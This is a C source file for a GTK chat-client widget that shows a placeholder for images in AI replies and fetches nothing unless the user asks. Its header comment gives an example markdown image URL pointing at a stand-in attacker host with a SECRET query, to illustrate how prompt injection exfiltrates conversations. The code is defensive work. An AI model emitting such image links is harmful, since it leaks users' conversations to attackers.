/* confab-markdown-image.c: the placeholder shown for an image in a reply
 *
 * An image in a reply is never fetched by the view: fetching
 * `![x](https://attacker/?q=SECRET)` is how prompt injection exfiltrates
 * conversations (shared/reference/reliability.md §2.6). The placeholder
 * shows the alt text and the full target, and a Load Image button emits
 * ::load; the app decides, and may hand back a paintable to show.
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */

#include "config.h"

#include <glib/gi18n.h>

#include "confab-markdown-image.h"
#include "confab-markdown-text.h"

/* How much of an image's alt text and URI the placeholder shows */
#define MAX_SHOWN_CHARS 500

struct _ConfabMarkdownImage
{
  GtkWidget  parent_instance;

  /* child widgets */
  GtkWidget *placeholder;
  GtkWidget *alt_label;
  GtkWidget *uri_label;
  GtkWidget *load_button;
  GtkWidget *picture;

  /* owned */
  char      *uri;
  char      *alt;
};

G_DEFINE_FINAL_TYPE (ConfabMarkdownImage, confab_markdown_image, GTK_TYPE_WIDGET)

enum {
  PROP_0,
  PROP_URI,
  PROP_ALT,
  N_PROPS
};

enum {
  LOAD,
  N_SIGNALS
};

static GParamSpec *properties[N_PROPS];
static guint signals[N_SIGNALS];

static void
load_action (GtkWidget  *widget,
             const char *action_name,
             GVariant   *parameter)
{
  g_signal_emit (widget, signals[LOAD], 0);
}

static GtkWidget *
create_texts (ConfabMarkdownImage *self)
{
  GtkWidget *box = gtk_box_new (GTK_ORIENTATION_VERTICAL, 2);

  gtk_widget_set_hexpand (box, TRUE);
  gtk_widget_set_valign (box, GTK_ALIGN_CENTER);

  self->alt_label = gtk_label_new (NULL);
  gtk_label_set_xalign (GTK_LABEL (self->alt_label), 0);
  gtk_label_set_wrap (GTK_LABEL (self->alt_label), TRUE);
  gtk_label_set_wrap_mode (GTK_LABEL (self->alt_label), PANGO_WRAP_WORD_CHAR);
  gtk_label_set_selectable (GTK_LABEL (self->alt_label), TRUE);
  gtk_widget_add_css_class (self->alt_label, "md-image-alt");
  gtk_box_append (GTK_BOX (box), self->alt_label);

  self->uri_label = gtk_label_new (NULL);
  gtk_label_set_xalign (GTK_LABEL (self->uri_label), 0);
  gtk_label_set_wrap (GTK_LABEL (self->uri_label), TRUE);
  gtk_label_set_wrap_mode (GTK_LABEL (self->uri_label), PANGO_WRAP_WORD_CHAR);
  gtk_label_set_selectable (GTK_LABEL (self->uri_label), TRUE);
  gtk_widget_add_css_class (self->uri_label, "md-image-uri");
  gtk_widget_add_css_class (self->uri_label, "caption");
  gtk_widget_add_css_class (self->uri_label, "dim-label");
  gtk_box_append (GTK_BOX (box), self->uri_label);

  return box;
}

static void
create_placeholder (ConfabMarkdownImage *self)
{
  GtkWidget *icon = gtk_image_new_from_icon_name ("image-x-generic-symbolic");

  self->placeholder = gtk_box_new (GTK_ORIENTATION_HORIZONTAL, 10);
  gtk_widget_set_parent (self->placeholder, GTK_WIDGET (self));

  gtk_widget_add_css_class (icon, "dim-label");
  gtk_widget_set_valign (icon, GTK_ALIGN_CENTER);
  gtk_box_append (GTK_BOX (self->placeholder), icon);
  gtk_box_append (GTK_BOX (self->placeholder), create_texts (self));

  self->load_button = gtk_button_new_with_label (_("Load Image"));
  gtk_widget_set_valign (self->load_button, GTK_ALIGN_CENTER);
  gtk_actionable_set_action_name (GTK_ACTIONABLE (self->load_button), "image.load");
  gtk_box_append (GTK_BOX (self->placeholder), self->load_button);
}

static void
confab_markdown_image_constructed (GObject *object)
{
  ConfabMarkdownImage *self = CONFAB_MARKDOWN_IMAGE (object);
  g_autofree char *accessible = NULL;
  g_autofree char *alt = confab_markdown_dup_shortened (self->alt, MAX_SHOWN_CHARS);
  g_autofree char *uri = confab_markdown_dup_shortened (self->uri, MAX_SHOWN_CHARS);
  gboolean loadable = confab_markdown_uri_is_remote_image (self->uri);

  G_OBJECT_CLASS (confab_markdown_image_parent_class)->constructed (object);

  /* (shortened: a data: URI can be megabytes) */
  gtk_label_set_text (GTK_LABEL (self->alt_label), alt[0] != '\0' ? alt : _("Image"));
  gtk_label_set_text (GTK_LABEL (self->uri_label), uri);
  gtk_widget_set_tooltip_text (self->load_button, uri);
  /* Only web images can be loaded on request: file: or smb: ones would
   * read the user's disk or network shares. */
  gtk_widget_set_visible (self->load_button, loadable);
  gtk_widget_action_set_enabled (GTK_WIDGET (self), "image.load", loadable);

  /* TRANSLATORS: accessible name of an image placeholder; %s is its description */
  accessible = g_strdup_printf (_("Image: %s"), alt[0] != '\0' ? alt : uri);
  gtk_accessible_update_property (GTK_ACCESSIBLE (self),
                                  GTK_ACCESSIBLE_PROPERTY_LABEL, accessible,
                                  -1);
}

static void
confab_markdown_image_dispose (GObject *object)
{
  ConfabMarkdownImage *self = CONFAB_MARKDOWN_IMAGE (object);

  g_clear_pointer (&self->placeholder, gtk_widget_unparent);
  g_clear_pointer (&self->picture, gtk_widget_unparent);

  G_OBJECT_CLASS (confab_markdown_image_parent_class)->dispose (object);
}

static void
confab_markdown_image_finalize (GObject *object)
{
  ConfabMarkdownImage *self = CONFAB_MARKDOWN_IMAGE (object);

  g_free (self->uri);
  g_free (self->alt);

  G_OBJECT_CLASS (confab_markdown_image_parent_class)->finalize (object);
}

static void
confab_markdown_image_get_property (GObject    *object,
                                    guint       prop_id,
                                    GValue     *value,
                                    GParamSpec *pspec)
{
  ConfabMarkdownImage *self = CONFAB_MARKDOWN_IMAGE (object);

  switch (prop_id)
    {
    case PROP_URI:
      g_value_set_string (value, self->uri);
      break;
    case PROP_ALT:
      g_value_set_string (value, self->alt);
      break;
    default:
      G_OBJECT_WARN_INVALID_PROPERTY_ID (object, prop_id, pspec);
    }
}

static void
confab_markdown_image_set_property (GObject      *object,
                                    guint         prop_id,
                                    const GValue *value,
                                    GParamSpec   *pspec)
{
  ConfabMarkdownImage *self = CONFAB_MARKDOWN_IMAGE (object);
  const char *str = g_value_get_string (value);

  switch (prop_id)
    {
    case PROP_URI:
      self->uri = g_strdup (str != NULL ? str : "");
      break;
    case PROP_ALT:
      self->alt = g_strdup (str != NULL ? str : "");
      break;
    default:
      G_OBJECT_WARN_INVALID_PROPERTY_ID (object, prop_id, pspec);
    }
}

static void
confab_markdown_image_class_init (ConfabMarkdownImageClass *klass)
{
  GObjectClass *object_class = G_OBJECT_CLASS (klass);
  GtkWidgetClass *widget_class = GTK_WIDGET_CLASS (klass);

  object_class->constructed = confab_markdown_image_constructed;
  object_class->dispose = confab_markdown_image_dispose;
  object_class->finalize = confab_markdown_image_finalize;
  object_class->get_property = confab_markdown_image_get_property;
  object_class->set_property = confab_markdown_image_set_property;

  /**
   * ConfabMarkdownImage:uri:
   *
   * The image's normalized source URI.
   */
  properties[PROP_URI] =
    g_param_spec_string ("uri", NULL, NULL, "",
                         G_PARAM_READWRITE | G_PARAM_CONSTRUCT_ONLY | G_PARAM_STATIC_STRINGS);

  /**
   * ConfabMarkdownImage:alt:
   *
   * The image's alt text, plain.
   */
  properties[PROP_ALT] =
    g_param_spec_string ("alt", NULL, NULL, "",
                         G_PARAM_READWRITE | G_PARAM_CONSTRUCT_ONLY | G_PARAM_STATIC_STRINGS);

  g_object_class_install_properties (object_class, N_PROPS, properties);

  /**
   * ConfabMarkdownImage::load:
   *
   * The user asked to load this (web) image.
   */
  signals[LOAD] = g_signal_new ("load", G_TYPE_FROM_CLASS (klass), G_SIGNAL_RUN_LAST,
                                0, NULL, NULL, NULL, G_TYPE_NONE, 0);

  gtk_widget_class_install_action (widget_class, "image.load", NULL, load_action);
  gtk_widget_class_set_layout_manager_type (widget_class, GTK_TYPE_BIN_LAYOUT);
  gtk_widget_class_set_css_name (widget_class, "markdownimage");
  gtk_widget_class_set_accessible_role (widget_class, GTK_ACCESSIBLE_ROLE_GROUP);
}

static void
confab_markdown_image_init (ConfabMarkdownImage *self)
{
  gtk_widget_add_css_class (GTK_WIDGET (self), "md-image");
  create_placeholder (self);
}

/**
 * confab_markdown_image_new:
 * @uri: the normalized source URI
 * @alt: the alt text, plain
 *
 * Returns: (transfer floating): a placeholder for the image
 */
GtkWidget *
confab_markdown_image_new (const char *uri,
                           const char *alt)
{
  return g_object_new (CONFAB_TYPE_MARKDOWN_IMAGE,
                       "uri", uri,
                       "alt", alt,
                       NULL);
}

const char *
confab_markdown_image_get_uri (ConfabMarkdownImage *self)
{
  g_return_val_if_fail (CONFAB_IS_MARKDOWN_IMAGE (self), NULL);

  return self->uri;
}

const char *
confab_markdown_image_get_alt (ConfabMarkdownImage *self)
{
  g_return_val_if_fail (CONFAB_IS_MARKDOWN_IMAGE (self), NULL);

  return self->alt;
}

/**
 * confab_markdown_image_set_paintable:
 * @paintable: (nullable): the image the app loaded, or %NULL to show the
 *   placeholder again
 */
void
confab_markdown_image_set_paintable (ConfabMarkdownImage *self,
                                     GdkPaintable        *paintable)
{
  g_return_if_fail (CONFAB_IS_MARKDOWN_IMAGE (self));
  g_return_if_fail (paintable == NULL || GDK_IS_PAINTABLE (paintable));

  if (paintable == NULL)
    {
      g_clear_pointer (&self->picture, gtk_widget_unparent);
      gtk_widget_set_visible (self->placeholder, TRUE);
      return;
    }

  if (self->picture == NULL)
    {
      self->picture = gtk_picture_new ();
      gtk_picture_set_can_shrink (GTK_PICTURE (self->picture), TRUE);
      gtk_picture_set_content_fit (GTK_PICTURE (self->picture), GTK_CONTENT_FIT_SCALE_DOWN);
      gtk_picture_set_alternative_text (GTK_PICTURE (self->picture), self->alt);
      gtk_widget_set_halign (self->picture, GTK_ALIGN_START);
      gtk_widget_set_parent (self->picture, GTK_WIDGET (self));
    }
  gtk_picture_set_paintable (GTK_PICTURE (self->picture), paintable);
  gtk_widget_set_visible (self->placeholder, FALSE);
}
